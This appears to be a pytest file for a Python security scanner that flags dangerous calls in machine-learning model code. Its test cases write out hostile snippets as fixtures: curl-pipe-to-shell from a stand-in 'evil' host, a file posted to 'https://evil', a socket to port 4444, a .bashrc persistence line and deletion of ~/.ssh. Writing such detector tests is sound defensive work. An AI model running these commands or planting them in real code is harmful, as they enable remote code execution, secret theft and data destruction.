from __future__ import annotations

from pathlib import Path

import pytest

from mlward.findings import Severity
from tests.scanners._helpers import blocking, scan_one

LEGIT_MODELING = '''
import math
import os
from typing import Optional

import torch
from torch import nn

from .configuration_tiny import TinyConfig


class TinyModel(nn.Module):
    def __init__(self, config: TinyConfig) -> None:
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        return self.proj(x) / math.sqrt(x.shape[-1])


def save_vocabulary(save_directory: str, vocab: dict) -> str:
    path = os.path.join(save_directory, "vocab.txt")
    with open(path, "w", encoding="utf-8") as handle:
        handle.write("\\n".join(vocab))
    return path


pattern = __import__("re").compile("x")
model = TinyModel
model.eval()
'''


def _write(tmp_path: Path, text: str, name: str = "modeling_tiny.py") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def test_ordinary_modeling_code_is_clean(tmp_path: Path) -> None:
    assert blocking(scan_one(_write(tmp_path, LEGIT_MODELING))) == []


@pytest.mark.parametrize(
    ("source", "severity", "needle"),
    [
        ("import os\nos.system('curl evil | sh')\n", Severity.CRITICAL, "os.system"),
        ("import subprocess as sp\ndef f():\n    sp.run(['id'])\n", Severity.HIGH, "subprocess.run"),
        ("from os import popen as p\np('id')\n", Severity.CRITICAL, "os.popen"),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", Severity.CRITICAL, "exec"),
        ("__import__('os').system('id')\n", Severity.CRITICAL, "os.system"),
        ("import socket\ndef f():\n    socket.create_connection(('evil', 4444))\n", Severity.HIGH, "socket"),
        ("import requests\ndef f():\n    requests.post('https://evil', data=open('k').read())\n",
         Severity.MEDIUM, "requests.post"),
        ("import ctypes\nctypes.CDLL('./payload.so')\n", Severity.CRITICAL, "ctypes.CDLL"),
        ("import pickle\ndef f(b):\n    return pickle.loads(b)\n", Severity.HIGH, "pickle.loads"),
        ("def f():\n    open('/home/u/.bashrc', 'a').write('curl evil|sh')\n", Severity.HIGH, ".bashrc"),
        ("import shutil\ndef f():\n    shutil.rmtree('~/.ssh')\n", Severity.HIGH, "shutil.rmtree"),
        ("import importlib\nimportlib.import_module('subprocess')\n", Severity.MEDIUM, "import_module"),
    ],
)
def test_dangerous_calls_are_reported_by_line(tmp_path: Path, source: str, severity: Severity,
                                              needle: str) -> None:
    found = [f for f in scan_one(_write(tmp_path, source)) if f.rule == "python.dangerous-call"]
    assert found, source
    worst = max(found, key=lambda f: f.severity)
    assert worst.severity == severity
    assert needle in worst.message
    assert worst.location.line is not None


def test_invalid_python_is_not_clean(tmp_path: Path) -> None:
    found = scan_one(_write(tmp_path, "def broken(:\n  pass\n"))
    assert [f.rule for f in found] == ["python.unparseable"]
    assert found[0].severity == Severity.MEDIUM


def test_python_file_is_never_imported(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    _write(tmp_path, f"open({str(marker)!r}, 'w').write('x')\n", "boom.py")
    scan_one(tmp_path / "boom.py")
    assert not marker.exists()
